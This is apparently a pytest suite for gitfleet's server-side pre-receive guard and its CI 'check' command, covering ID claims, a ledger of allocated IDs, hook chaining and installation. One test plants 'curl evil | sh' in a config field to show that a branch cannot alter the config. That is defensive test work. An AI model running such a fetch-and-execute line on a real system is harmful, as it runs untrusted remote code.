"""The server guard with real git: the pre-receive hook installed in a bare repository and
fired by real ``git push``es from a clone, and ``gitfleet check`` over a range."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import article, commit_file, git, gitfleet

from gitfleet.ids.remote import DEFAULT_REF

REMOTE_LEDGER = '\n[ledger]\nbackend = "remote"\n'
TK_SERIES = '\n[series.TK]\nprefix = "TK"\npaths = ["tickets/*.md"]\n'


@pytest.fixture
def guarded(story_repo: Path, remote: Path) -> Path:
    """The story's bare remote with the guard installed; returns a fresh clone of it."""
    gitfleet(story_repo, "server", "install", str(remote))
    clone = story_repo.parent / "clone"
    git(story_repo.parent, "clone", "-q", str(remote), str(clone))
    return clone


def _push(clone: Path, *refspecs: str) -> tuple[bool, str]:
    proc = git(clone, "push", "--no-verify", "origin", *refspecs, check=False)
    return proc.returncode == 0, proc.stderr


def _plumb(cwd: Path, *args: str, input: str | None = None) -> str:
    done = subprocess.run(
        ["git", *args], cwd=cwd, input=input, capture_output=True, text=True, check=True
    )
    return done.stdout.strip()


def _tip(remote: Path, ref: str) -> str:
    return git(remote, "rev-parse", "-q", "--verify", ref, check=False).stdout.strip()


def _allocate(clone: Path, owner: str) -> str:
    out = gitfleet(clone, "ids", "allocate", "SP", "--owner", owner, "--json").stdout
    data = json.loads(out)
    ids = data["ids"] if isinstance(data, dict) else data
    return str(ids[0])


def test_a_good_push_is_accepted(guarded: Path, remote: Path) -> None:
    new = commit_file(guarded, "articles/SP-152.md", article(152))
    ok, err = _push(guarded, "HEAD:main")
    assert ok, err
    assert _tip(remote, "main") == new


def test_an_id_claimed_twice_is_refused(guarded: Path, remote: Path) -> None:
    before = _tip(remote, "main")
    commit_file(guarded, "articles/copy.md", article(10))  # front matter claims SP-010 again
    ok, err = _push(guarded, "HEAD:main")
    assert not ok
    assert "SP-010 is claimed by 2 files: articles/SP-010.md, articles/copy.md" in err
    assert "gitfleet ids allocate SP" in err  # the next step
    assert _tip(remote, "main") == before


def test_a_guarded_file_is_refused(guarded: Path, remote: Path) -> None:
    before = _tip(remote, "main")
    commit_file(guarded, "scripts/article-counter.json", '{"SP": {"next": 999}}\n')
    ok, err = _push(guarded, "HEAD:refs/heads/fleet/a")
    assert not ok
    assert "scripts/article-counter.json is guarded" in err
    assert "refs/heads/fleet/a" in err
    assert _tip(remote, "refs/heads/fleet/a") == ""
    assert _tip(remote, "main") == before


def test_a_series_the_push_adds_binds_that_push(guarded: Path) -> None:
    # The target's config has no TK series: judged by it alone, these claims would pass.
    with open(guarded / "gitfleet.toml", "a") as fh:
        fh.write(TK_SERIES)
    (guarded / "tickets").mkdir()
    (guarded / "tickets" / "TK-1.md").write_text("one\n")
    (guarded / "tickets" / "TK-1-again.md").write_text("two\n")
    git(guarded, "add", "-A")
    git(guarded, "commit", "-q", "-m", "a new series, claimed twice")
    ok, err = _push(guarded, "HEAD:main")
    assert not ok
    assert "TK-1 is claimed by 2 files" in err


def test_a_push_cannot_drop_a_guard_it_is_judged_by(guarded: Path) -> None:
    text = (guarded / "gitfleet.toml").read_text()
    (guarded / "gitfleet.toml").write_text(text.split("[guarded]")[0])
    (guarded / "scripts" / "article-counter.json").write_text('{"SP": {"next": 1}}\n')
    git(guarded, "commit", "-q", "-am", "unguard and edit")
    ok, err = _push(guarded, "HEAD:main")
    assert not ok
    assert "scripts/article-counter.json is guarded" in err


# -- with the ledger in the same repository --------------------------------------------------


@pytest.fixture
def ledgered(guarded: Path) -> Path:
    """The guarded clone after the fleet moved to the remote ledger (committed and pushed)."""
    with open(guarded / "gitfleet.toml", "a") as fh:
        fh.write(REMOTE_LEDGER)
    git(guarded, "commit", "-q", "-am", "remote ledger")
    ok, err = _push(guarded, "HEAD:main")
    assert ok, err
    return guarded


def test_an_unallocated_id_is_refused(ledgered: Path, remote: Path) -> None:
    _allocate(ledgered, "fleet/a")  # the ledger exists, but not for SP-160
    git(ledgered, "switch", "-q", "-c", "fleet/a")
    commit_file(ledgered, "articles/SP-160.md", article(160))
    ok, err = _push(ledgered, "fleet/a")
    assert not ok
    assert "SP-160 (claimed by articles/SP-160.md) was never allocated" in err
    assert "gitfleet ids allocate SP" in err
    assert _tip(remote, "refs/heads/fleet/a") == ""


def test_an_id_owned_by_another_branch_is_refused(ledgered: Path, remote: Path) -> None:
    theirs = _allocate(ledgered, "fleet/a")
    git(ledgered, "switch", "-q", "-c", "fleet/b")
    number = int(theirs.split("-")[1])
    commit_file(ledgered, f"articles/{theirs}.md", article(number))
    ok, err = _push(ledgered, "fleet/b")
    assert not ok
    claimed = f"{theirs} (claimed by articles/{theirs}.md)"
    assert f"{claimed} is allocated to fleet/a, not to fleet/b" in err
    assert "--owner fleet/b" in err
    assert _tip(remote, "refs/heads/fleet/b") == ""


def test_the_owner_pushes_and_lands_its_own_id(ledgered: Path, remote: Path) -> None:
    mine = _allocate(ledgered, "fleet/a")
    git(ledgered, "switch", "-q", "-c", "fleet/a")
    new = commit_file(ledgered, f"articles/{mine}.md", article(int(mine.split("-")[1])))
    ok, err = _push(ledgered, "fleet/a")
    assert ok, err
    # Landing brings fleet/a's id to the target: the server cannot see the source branch,
    # so the target is judged without ownership, and the push lands.
    ok, err = _push(ledgered, "fleet/a:main")
    assert ok, err
    assert _tip(remote, "main") == new


def test_a_released_id_is_refused(ledgered: Path) -> None:
    mine = _allocate(ledgered, "fleet/a")
    gitfleet(ledgered, "ids", "release", mine)
    commit_file(ledgered, f"articles/{mine}.md", article(int(mine.split("-")[1])))
    ok, err = _push(ledgered, "HEAD:main")
    assert not ok
    assert f"{mine} (claimed by articles/{mine}.md) was released" in err


def test_the_ledger_may_grow_but_not_be_deleted_or_rewound(ledgered: Path, remote: Path) -> None:
    _allocate(ledgered, "fleet/a")
    first = _tip(remote, DEFAULT_REF)
    _allocate(ledgered, "fleet/b")  # an append goes through the guard
    second = _tip(remote, DEFAULT_REF)
    assert second != first
    ok, err = _push(ledgered, f":{DEFAULT_REF}")
    assert not ok
    assert f"deleting {DEFAULT_REF} would let every id it holds be handed out again" in err
    ok, err = _push(ledgered, f"+{first}:{DEFAULT_REF}")  # a push --mirror from an old clone
    assert not ok
    assert "would lower the ledger's high-water marks (SP from 153 to 152)" in err
    assert _tip(remote, DEFAULT_REF) == second


def test_a_ledger_replaced_on_the_server_can_be_restored(ledgered: Path, remote: Path) -> None:
    _allocate(ledgered, "fleet/a")
    saw = _tip(remote, DEFAULT_REF)
    git(ledgered, "fetch", "-q", "origin", f"{DEFAULT_REF}:refs/saw")
    # Someone reseeded the ledger on the server itself: an unrelated chain, lower marks.
    seeded = '{"n":151,"op":"seeded","series":"SP","ts":1.0,"v":1}\n'
    blob = _plumb(remote, "hash-object", "-w", "--stdin", input=seeded)
    tree = _plumb(remote, "mktree", input=f"100644 blob {blob}\t000000.jsonl\n")
    reseeded = _plumb(remote, "commit-tree", tree, "-m", "reseeded")
    git(remote, "update-ref", DEFAULT_REF, reseeded)
    # The restore the client's error message gives is not a fast-forward, but raises the
    # marks back: it passes.
    ok, err = _push(ledgered, f"+refs/saw:{DEFAULT_REF}")
    assert ok, err
    assert _tip(remote, DEFAULT_REF) == saw


# -- installing and uninstalling ---------------------------------------------------------------


def _legacy_hook(remote: Path) -> Path:
    """A pre-receive hook already there: logs what it saw; refuses refs/heads/blocked."""
    path = remote / "hooks" / "pre-receive"
    path.write_text(
        "#!/bin/sh\n"
        'while read old new ref; do echo "$ref" >>"$GIT_DIR/legacy.log"\n'
        '  if [ "$ref" = refs/heads/blocked ]; then echo "legacy says no" >&2; exit 1; fi\n'
        "done\n"
    )
    path.chmod(0o750)
    return path


def test_a_chained_hook_still_runs_and_can_refuse(
    story_repo: Path, remote: Path, tmp_path: Path
) -> None:
    legacy = _legacy_hook(remote)
    original = legacy.read_bytes()
    gitfleet(story_repo, "server", "install", str(remote))
    assert (remote / "hooks" / "pre-receive.gitfleet-orig").read_bytes() == original
    commit_file(story_repo, "articles/SP-152.md", article(152))
    assert _push(story_repo, "main")[0]
    assert (remote / "legacy.log").read_text().split() == ["refs/heads/main"]
    ok, err = _push(story_repo, "main:blocked")
    assert not ok and "legacy says no" in err
    assert _tip(remote, "refs/heads/blocked") == ""
    # Ours refuses first; the push is refused whichever says no.
    commit_file(story_repo, "articles/copy.md", article(10))
    ok, err = _push(story_repo, "main")
    assert not ok and "SP-010 is claimed by 2 files" in err


def test_uninstall_puts_back_exactly_what_was_there(story_repo: Path, remote: Path) -> None:
    legacy = _legacy_hook(remote)
    original, mode = legacy.read_bytes(), stat.S_IMODE(legacy.stat().st_mode)
    listing = sorted(p.name for p in (remote / "hooks").iterdir())
    gitfleet(story_repo, "server", "install", str(remote))
    gitfleet(story_repo, "server", "install", str(remote))  # again: the chain is kept
    assert json.loads((remote / "gitfleet-server" / "server.json").read_text())["chained"]
    gitfleet(story_repo, "server", "uninstall", str(remote))
    assert legacy.read_bytes() == original
    assert stat.S_IMODE(legacy.stat().st_mode) == mode
    assert sorted(p.name for p in (remote / "hooks").iterdir()) == listing
    assert not (remote / "gitfleet-server" / "server.json").exists()
    # With no hook before, uninstall leaves none; a second uninstall has nothing to do.
    legacy.unlink()
    gitfleet(story_repo, "server", "install", str(remote))
    gitfleet(story_repo, "server", "uninstall", str(remote))
    assert not legacy.exists()
    assert "not installed" in gitfleet(story_repo, "server", "uninstall", str(remote)).stdout


def test_a_dispatcher_layout_gets_a_file_of_its_own(story_repo: Path, remote: Path) -> None:
    # Gitea's pre-receive runs every file in pre-receive.d/ and finds that folder from its
    # own name: it must stay where it is.
    dispatcher = remote / "hooks" / "pre-receive"
    dispatcher.write_text(
        '#!/bin/sh\ndata=$(cat)\nfor h in "$0.d"/*; do\n'
        '  printf "%s\\n" "$data" | "$h" || exit 1\ndone\n'
    )
    dispatcher.chmod(0o755)
    (remote / "hooks" / "pre-receive.d").mkdir()
    gitfleet(story_repo, "server", "install", str(remote))
    assert (remote / "hooks" / "pre-receive.d" / "gitfleet").exists()
    assert not (remote / "hooks" / "pre-receive.gitfleet-orig").exists()
    commit_file(story_repo, "articles/copy.md", article(10))
    ok, err = _push(story_repo, "main")
    assert not ok and "SP-010 is claimed by 2 files" in err
    gitfleet(story_repo, "server", "uninstall", str(remote))
    assert list((remote / "hooks" / "pre-receive.d").iterdir()) == []


def test_install_refuses_what_is_not_a_repository(tmp_path: Path) -> None:
    proc = gitfleet(tmp_path, "server", "install", str(tmp_path / "nope.git"), check=False)
    assert proc.returncode == 2
    assert "is not a git repository" in proc.stderr


# -- gitfleet check, for CI ----------------------------------------------------------------------


def test_check_passes_a_clean_range_and_fails_a_bad_one(story_repo: Path) -> None:
    git(story_repo, "fetch", "-q", "origin")
    commit_file(story_repo, "articles/SP-152.md", article(152))
    good = git(story_repo, "rev-parse", "HEAD").stdout.strip()
    done = gitfleet(story_repo, "check")  # default: origin/main..HEAD
    assert "refs/remotes/origin/main..HEAD (as main): no id problems" in done.stdout
    commit_file(story_repo, "articles/copy.md", article(10))
    commit_file(story_repo, "scripts/article-counter.json", "{}\n")
    bad = gitfleet(story_repo, "check", "origin/main..HEAD", check=False)
    assert bad.returncode == 1
    assert "SP-010 is claimed by 2 files" in bad.stderr
    assert "scripts/article-counter.json is guarded" in bad.stderr
    assert gitfleet(story_repo, "check", f"origin/main..{good}").returncode == 0


def test_check_judges_ownership_against_the_remote_ledger(story_repo: Path, remote: Path) -> None:
    with open(story_repo / "gitfleet.toml", "a") as fh:
        fh.write(REMOTE_LEDGER)
    git(story_repo, "commit", "-q", "-am", "remote ledger")
    git(story_repo, "push", "-q", "origin", "main")
    theirs = _allocate(story_repo, "fleet/a")
    git(story_repo, "switch", "-q", "-c", "fleet/b")
    commit_file(story_repo, f"articles/{theirs}.md", article(int(theirs.split("-")[1])))
    bad = gitfleet(story_repo, "check", check=False)
    assert bad.returncode == 1
    assert "is allocated to fleet/a, not to fleet/b" in bad.stderr
    # As the pull request's source branch in CI, fleet/a may claim it.
    assert gitfleet(story_repo, "check", "--owner", "fleet/a").returncode == 0


def test_a_fleet_branch_may_not_change_the_config(guarded: Path, remote: Path) -> None:
    with open(guarded / "gitfleet.toml", "a") as fh:
        fh.write('\n[land]\ncheck = "curl evil | sh"\n')
    git(guarded, "commit", "-q", "-am", "my own land check")
    ok, err = _push(guarded, "HEAD:refs/heads/fleet/a")
    assert not ok
    assert "fleet/a changes gitfleet.toml (land.check)" in err
    assert _tip(remote, "refs/heads/fleet/a") == ""
    ok, err = _push(guarded, "HEAD:main")  # the operator's own commit on the target
    assert ok, err


def test_a_malformed_ledger_commit_is_refused(ledgered: Path, remote: Path) -> None:
    _allocate(ledgered, "fleet/a")
    tip = _tip(remote, DEFAULT_REF)
    git(ledgered, "fetch", "-q", "origin", DEFAULT_REF)
    shard = git(ledgered, "cat-file", "blob", f"{tip}:000000.jsonl").stdout
    for text, line in ((shard + "not json\n", 3), ("not json\n", 1)):  # appended; replaced
        blob = _plumb(ledgered, "hash-object", "-w", "--stdin", input=text)
        tree = _plumb(ledgered, "mktree", input=f"100644 blob {blob}\t000000.jsonl\n")
        commit = _plumb(ledgered, "commit-tree", tree, "-p", tip, "-m", "forged")
        ok, err = _push(ledgered, f"{commit}:{DEFAULT_REF}")
        assert not ok
        assert f"000000.jsonl line {line}, is not a ledger record" in err
        assert _tip(remote, DEFAULT_REF) == tip


def test_a_broken_target_config_refuses_pushes_until_a_push_repairs_it(
    story_repo: Path, remote: Path
) -> None:
    good = (story_repo / "gitfleet.toml").read_text()
    (story_repo / "gitfleet.toml").write_text(good + "\n[nonsense\n")
    git(story_repo, "commit", "-q", "-am", "broken config")
    git(story_repo, "push", "-q", "origin", "main")  # before the guard was there
    gitfleet(story_repo, "server", "install", str(remote))
    commit_file(story_repo, "articles/SP-152.md", article(152))
    ok, err = _push(story_repo, "HEAD:refs/heads/fleet/a")
    assert not ok
    assert "not valid TOML" in err and "push a commit to main that repairs it" in err
    (story_repo / "gitfleet.toml").write_text(good)
    git(story_repo, "commit", "-q", "-am", "repair")
    ok, err = _push(story_repo, "HEAD:main")
    assert ok, err


def test_check_in_a_pull_request_judges_its_source_branch(story_repo: Path) -> None:
    with open(story_repo / "gitfleet.toml", "a") as fh:
        fh.write(REMOTE_LEDGER)
    git(story_repo, "commit", "-q", "-am", "remote ledger")
    git(story_repo, "push", "-q", "origin", "main")
    theirs = _allocate(story_repo, "fleet/a")
    commit_file(story_repo, f"articles/{theirs}.md", article(int(theirs.split("-")[1])))
    git(story_repo, "switch", "-q", "--detach")  # as actions/checkout leaves a pull request
    bad = gitfleet(story_repo, "check", env={"GITHUB_HEAD_REF": "fleet/b"}, check=False)
    assert bad.returncode == 1
    assert "(as fleet/b)" in bad.stderr and "allocated to fleet/a, not to fleet/b" in bad.stderr
    assert gitfleet(story_repo, "check", env={"GITHUB_HEAD_REF": "fleet/a"}).returncode == 0


def test_hooks_path_and_an_explicit_hook_file_are_honoured(
    story_repo: Path, remote: Path, tmp_path: Path
) -> None:
    shared = tmp_path / "shared-hooks"
    git(remote, "config", "core.hooksPath", str(shared))
    gitfleet(story_repo, "server", "install", str(remote))
    assert (shared / "pre-receive").read_text() == gitfleet(story_repo, "server", "shim").stdout
    gitfleet(story_repo, "server", "uninstall", str(remote))
    git(remote, "config", "--unset", "core.hooksPath")
    # A global hooks folder (GitLab's custom_hooks_dir): wherever --hook says.
    global_hook = tmp_path / "custom_hooks" / "pre-receive.d" / "gitfleet"
    gitfleet(story_repo, "server", "install", str(remote), "--hook", str(global_hook))
    git(remote, "config", "core.hooksPath", str(global_hook.parent))
    commit_file(story_repo, "articles/copy.md", article(10))
    (global_hook.parent / "pre-receive").symlink_to(global_hook)
    ok, err = _push(story_repo, "main")
    assert not ok and "SP-010 is claimed by 2 files" in err
    (global_hook.parent / "pre-receive").unlink()
    gitfleet(story_repo, "server", "uninstall", str(remote))
    assert not (tmp_path / "custom_hooks" / "pre-receive.d").exists()


def test_a_guard_that_cannot_start_refuses_the_push(guarded: Path, remote: Path) -> None:
    hook = remote / "hooks" / "pre-receive"
    text = hook.read_text()
    hook.write_text(text.replace(sys.executable, str(remote / "no-such-python")))
    commit_file(guarded, "articles/SP-152.md", article(152))
    proc = subprocess.run(
        ["git", "push", "origin", "HEAD:main"],
        cwd=guarded,
        capture_output=True,
        text=True,
        env={**os.environ, "PATH": "/usr/bin:/bin"},  # no gitfleet on PATH either
    )
    assert proc.returncode != 0
    assert "reinstall gitfleet, then run `gitfleet server install` again" in proc.stderr


def test_check_in_a_shallow_clone_asks_for_the_history(story_repo: Path, remote: Path) -> None:
    commit_file(story_repo, "articles/SP-152.md", article(152))
    git(story_repo, "push", "-q", "origin", "main:fleet/a")
    shallow = story_repo.parent / "shallow"
    git(
        story_repo.parent,
        "clone",
        "-q",
        "--depth",
        "1",
        "-b",
        "fleet/a",
        remote.as_uri(),
        str(shallow),
    )
    git(shallow, "fetch", "-q", "--depth", "1", "origin", "main:refs/remotes/origin/main")
    bad = gitfleet(shallow, "check", check=False)
    assert bad.returncode == 2
    assert "not in this shallow clone" in bad.stderr and "fetch-depth: 0" in bad.stderr
    git(shallow, "fetch", "-q", "--unshallow", "origin")
    assert gitfleet(shallow, "check").returncode == 0
